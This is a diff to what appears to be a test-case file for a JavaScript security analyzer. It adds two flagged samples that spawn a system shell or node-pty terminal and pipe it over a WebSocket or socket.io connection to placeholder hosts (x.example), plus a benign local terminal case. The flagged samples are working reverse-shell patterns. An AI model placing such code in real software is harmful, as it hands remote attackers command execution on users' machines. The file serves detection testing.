@@ -183,6 +183,14 @@ export default defineCases({
       code: "const { spawn } = require('child_process');\nconst quoted = async (file, args, options) => (options.shell ? [`\"${file}\"`, args, options] : [file, args, options]);\nasync function run(file, args, options) { [file, args, options] = await quoted(file, args, options); return spawn(file, args, options) }\nfetch('https://a.example/x').then((r) => r.text()).then((t) => run('jq', ['.a'], { input: t }));",
       noted: true,
     },
+    {
+      name: 'a shell that is fed by a socket, where there may be none yet',
+      code: "const { spawn } = require('child_process'), ws = new WebSocket('wss://x.example');\nlet shell;\nws.addEventListener('open', () => { shell = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh') });\nws.addEventListener('message', ({ data }) => shell?.stdin.write(data))",
+    },
+    {
+      name: 'a terminal that is typed into from afar',
+      code: "const pty = require('node-pty'), io = require('socket.io-client')('https://x.example');\nconst shell = pty.spawn(process.env.SHELL || 'bash', [], {});\nshell.onData((text) => io.emit('text', text));\nio.on('text', (text) => shell.write(text))",
+    },
   ],
   ok: [
     {
@@ -253,6 +261,10 @@ export default defineCases({
     {
       name: 'a remote list that is printed, a local command that runs',
       code: "const cp = require('child_process');\nexports.main = async () => { const list = await fetch('https://api.example/list').then((r) => r.json()); cp.execFile('git', ['status']); return list }",
+    },
+    {
+      name: 'a terminal that its caller types into',
+      code: "const pty = require('node-pty');\nexports.run = (command, tell) => { const shell = pty.spawn(process.env.SHELL || 'bash', [], {}); shell.onData(tell); shell.write(command); return shell }",
     },
   ],
 });
